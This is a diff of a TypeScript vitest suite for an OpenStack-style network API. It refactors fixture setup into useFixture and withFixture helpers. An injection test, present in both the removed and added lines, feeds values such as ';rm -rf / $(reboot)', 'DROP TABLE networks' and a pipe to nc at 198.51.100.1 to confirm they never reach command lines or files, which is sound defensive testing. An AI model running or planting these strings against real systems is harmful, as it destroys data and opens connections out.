@@ -11,7 +11,7 @@
 import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { DEFAULT_MAX_BODY_BYTES } from '../../src/api/body.js';
 import { createHostLayer, type Reconciler } from '../../src/host/index.js';
 import { createManager } from '../../src/managers/registry.js';
@@ -20,6 +20,7 @@ import { freshDatabase, testConfig, type TestDatabase } from '../support/databas
 import { snapshot } from '../support/dbState.js';
 import { RecordingExecutor } from '../support/recordingExecutor.js';
 import { RecordingHost } from '../support/recordingHost.js';
+import { useFixture, withFixture } from '../support/useFixture.js';
 import { expectFault, registeredRoutes, startApi, uuidOf, type Api, type Reply } from './harness.js';
 
 /** What a valid request needs from the world: ids and addresses made in beforeAll. */
@@ -267,18 +268,11 @@ const SHAPE_CASES = ROUTES.filter((row) => row.body !== undefined).flatMap((row)
     .map((shape) => ({ title: `${row.route} (${row.what}): body ${shape.name}`, row, shape: shape.name })));
 
 describe('bad input to every API route', () => {
-  let f: Fixture;
-
-  beforeAll(async () => {
-    f = await fixture();
-  });
-
-  afterAll(async () => {
-    await f?.close();
-  });
+  const current = useFixture(fixture);
 
   /** The whole contract of a refusal. */
   async function expectRefused(request: Request): Promise<void> {
+    const f = current();
     // Compared with the state just before, so that one case that wrongly writes fails alone.
     const before = await snapshot(f.database.db);
     f.host.clear();
@@ -294,14 +288,15 @@ describe('bad input to every API route', () => {
   }
 
   it('has a row for every route the app registered', () => {
-    expect([...new Set(ROUTES.map((row) => row.route))].sort()).toEqual(registeredRoutes(f.api.app));
+    expect([...new Set(ROUTES.map((row) => row.route))].sort()).toEqual(registeredRoutes(current().api.app));
   });
 
   it.each(FIELD_CASES)('$title', async ({ row, field, value }) => {
-    await expectRefused(substituted(row, f.w, field, value));
+    await expectRefused(substituted(row, current().w, field, value));
   });
 
   it.each(SHAPE_CASES)('$title', async ({ row, shape }) => {
+    const f = current();
     const { body: _valid, ...base } = baseRequest(row, f.w);
     const wanted = wrongShapes(row.body!(f.w), DEFAULT_MAX_BODY_BYTES).find((candidate) => candidate.name === shape)!;
     await expectRefused({ ...base, ...wanted.request });
@@ -314,32 +309,27 @@ describe('bad input to every API route', () => {
  * the host layer writes, even through a full reconcile.
  */
 describe('injection-shaped free text', () => {
-  it('is stored as given and reaches no command line', async () => {
-    const f = await fixture();
-    try {
-      const label = ';rm -rf / $(reboot) `halt` "; DROP TABLE networks; --';
-      const pool = "' OR 1=1 -- | nc 198.51.100.1 9";
-      const created = await send(f, { method: 'POST', path: '/v2.1/os-networks', body: { network: { label, cidr: '10.9.0.0/28' } } });
-      expect(created.status, created.text).toBe(200);
-      const bulk = await send(f, { method: 'POST', path: '/v2.1/os-floating-ips-bulk', body: { floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool } } });
-      expect(bulk.status, bulk.text).toBe(200);
-      await f.reconciler.reconcileAll();
-      const shown = (await send(f, { method: 'GET', path: `/v2.1/os-networks/${(created.json as { network: { id: string } }).network.id}` })).json as { network: { label: string } };
-      expect(shown.network.label).toBe(label);
-      const words = f.executor.commands.flatMap((spec) => [...spec.argv, spec.input ?? '']);
-      expect(words.length, 'the reconcile ran commands').toBeGreaterThan(0);
-      for (const word of words) {
-        for (const text of [label, pool, 'reboot', 'DROP TABLE', 'OR 1=1']) expect(word).not.toContain(text);
-      }
-      const written = readdirSync(f.stateDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
-      for (const file of written) {
-        const text = readFileSync(join(file.parentPath, file.name), 'utf8');
-        for (const part of ['reboot', 'DROP TABLE', 'OR 1=1']) expect(text, file.name).not.toContain(part);
-      }
-    } finally {
-      await f.close();
+  it('is stored as given and reaches no command line', () => withFixture(fixture, async (f) => {
+    const label = ';rm -rf / $(reboot) `halt` "; DROP TABLE networks; --';
+    const pool = "' OR 1=1 -- | nc 198.51.100.1 9";
+    const created = await send(f, { method: 'POST', path: '/v2.1/os-networks', body: { network: { label, cidr: '10.9.0.0/28' } } });
+    expect(created.status, created.text).toBe(200);
+    const bulk = await send(f, { method: 'POST', path: '/v2.1/os-floating-ips-bulk', body: { floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool } } });
+    expect(bulk.status, bulk.text).toBe(200);
+    await f.reconciler.reconcileAll();
+    const shown = (await send(f, { method: 'GET', path: `/v2.1/os-networks/${(created.json as { network: { id: string } }).network.id}` })).json as { network: { label: string } };
+    expect(shown.network.label).toBe(label);
+    const words = f.executor.commands.flatMap((spec) => [...spec.argv, spec.input ?? '']);
+    expect(words.length, 'the reconcile ran commands').toBeGreaterThan(0);
+    for (const word of words) {
+      for (const text of [label, pool, 'reboot', 'DROP TABLE', 'OR 1=1']) expect(word).not.toContain(text);
     }
-  });
+    const written = readdirSync(f.stateDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
+    for (const file of written) {
+      const text = readFileSync(join(file.parentPath, file.name), 'utf8');
+      for (const part of ['reboot', 'DROP TABLE', 'OR 1=1']) expect(text, file.name).not.toContain(part);
+    }
+  }));
 });
 
 /**
@@ -348,14 +338,9 @@ describe('injection-shaped free text', () => {
  * of a request that was wrong anyway.
  */
 describe('the valid request of every row', () => {
-  it.each(ROUTES.map((row) => ({ title: `${row.route} (${row.what})`, row })))('$title succeeds', async ({ row }) => {
-    const f = await fixture();
-    try {
-      const reply = await send(f, baseRequest(row, f.w));
-      expect(reply.status, reply.text.slice(0, 300)).toBeGreaterThanOrEqual(200);
-      expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(300);
-    } finally {
-      await f.close();
-    }
-  });
+  it.each(ROUTES.map((row) => ({ title: `${row.route} (${row.what})`, row })))('$title succeeds', ({ row }) => withFixture(fixture, async (f) => {
+    const reply = await send(f, baseRequest(row, f.w));
+    expect(reply.status, reply.text.slice(0, 300)).toBeGreaterThanOrEqual(200);
+    expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(300);
+  }));
 });
